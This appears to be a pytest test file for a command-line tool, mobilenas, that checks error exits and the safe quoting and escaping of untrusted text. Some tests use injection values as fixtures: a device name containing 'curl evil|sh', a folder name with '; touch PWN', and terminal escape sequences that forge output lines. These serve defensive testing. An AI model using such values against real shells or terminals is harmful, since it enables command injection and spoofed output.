"""What the system refuses, what others wrote, and what is offered for pasting, by way of the command line."""

import json
import os
import resource
import shlex
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from mobilenas.core import documents
from mobilenas.core.environment import Environment
from mobilenas.latency.table import TableKey, _profile_command
from mobilenas.workflows.model_card import _state_words
from tests.conftest import Outcome

Command = Callable[..., Outcome]
EVIL = "fake\n  error  0.1 %\x1b]0;pwn\x07"


def one_line(outcome: Outcome) -> str:
    """Its one line on stderr."""
    [line] = outcome.err.splitlines()
    return line


@pytest.mark.parametrize("kind", ["directory", "fifo", "not UTF-8"])
@pytest.mark.parametrize("verb", ["train", "report"])
def test_an_odd_status_ends_with_3(kind: str, verb: str, run: Path, command: Command) -> None:
    status = run / "train" / "STATUS"
    if kind == "directory":
        status.mkdir()
    elif kind == "fifo":
        os.mkfifo(status)
    else:
        status.write_bytes(b"ok\xff")
    more = ["--data", "digits", "--epochs", "1", "-q"] if verb == "train" else []
    outcome = command(verb, str(run), *more)
    assert outcome.code == 3
    assert "STATUS" in one_line(outcome)


def test_a_disk_that_fills_ends_a_training_with_8_and_it_goes_on(run: Path, command: Command) -> None:
    (run / "train" / "result.json").unlink()
    arguments = ["train", str(run), "--data", "digits", "--epochs", "1", "--set", "data.train_fraction=0.1", "-q"]
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4000, limits[1]))
    try:
        full = command(*arguments)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
    assert full.code == 8, full.err
    assert "cannot be written: File too large" in one_line(full)
    assert "STATUS" not in full.err
    assert (run / "train" / "STATUS").read_text().split()[0] == "failed"
    shown = json.loads(command("report", str(run), "--json").out)
    assert shown["train_status"] == "failed"
    assert "File too large" in shown["train_status_reason"]
    assert command(*arguments).code == 0


def test_a_killed_training_is_reported_as_interrupted(run: Path, command: Command) -> None:
    (run / "train" / "STATUS").write_text("running\nprocess 1, boot gone, started 1\n")
    assert "interrupted: process 1 has ended" in command("report", str(run)).out


def test_an_error_of_the_system_is_one_line(command: Command) -> None:
    outcome = command("report", "x" * 300)
    assert outcome.code == 8
    assert "File name too long" in one_line(outcome)


def test_output_that_cannot_be_written_ends_with_8(tmp_path: Path) -> None:
    with open("/dev/full", "w") as full:
        argv = [sys.executable, "-m", "mobilenas", "--version"]
        done = subprocess.run(argv, stdout=full, stderr=subprocess.PIPE, text=True, check=False, timeout=60)
    assert done.returncode == 8
    assert done.stderr.splitlines() == ["error: No space left on device; make room on that disk"]


def test_facts_of_a_table_cannot_forge_lines(table: Path, command: Command) -> None:
    card = json.loads((table / "card.json").read_text())
    card["environment"]["cpu_model"] = EVIL
    card["doubts"] = [EVIL]
    del card["sha256"]["card.json"]
    card["sha256"]["card.json"] = documents.digest(card)
    (table / "card.json").write_text(json.dumps(card))
    outcome = command("table", "show", str(table))
    assert outcome.code == 0, outcome.err
    assert r"fake\n  error  0.1 %\x1b]0;pwn\x07" in outcome.out
    assert "\x1b" not in outcome.out
    assert not [line for line in outcome.out.splitlines() if line.startswith("  error  0.1")]


def test_a_remedy_quotes_the_name_of_a_strangers_device() -> None:
    name = "x; curl evil|sh #\x1b[2K"
    key = TableKey(name, "onnxruntime", "1", "CPUExecutionProvider", "fp32", threads=1, batch=1)
    shown = _profile_command(key)
    assert shown.isprintable()
    pasted = subprocess.run(["bash", "-c", f"printf '%s\\0' {shown}"], capture_output=True, text=True, check=True).stdout
    assert pasted.split("\0")[3] == name


def test_the_recorded_command_of_an_odd_folder_does_nothing_else(command: Command, tmp_path: Path) -> None:
    folder = "a b; touch PWN #"
    outcome = command("describe", "darts-v2", "--output", folder)
    assert outcome.code == 0, outcome.err
    assert shlex.split((tmp_path / folder / "command.txt").read_text())[-1] == folder
    [shown] = [line for line in outcome.out.splitlines() if "mobilenas train" in line]
    assert shlex.split(shown[shown.index("mobilenas train") :])[2] == folder


def test_a_model_card_shows_a_devices_words_as_they_are() -> None:
    state = Environment("m", "s", "c", 1, "<b>|\n# forged\x1b[2K", (), (), (0.0, 0.0, 0.0), {})
    words = _state_words(state)
    assert words.startswith(r"governor \<b\>\|\\n# forged\\x1b\[2K")
    assert words.isprintable()
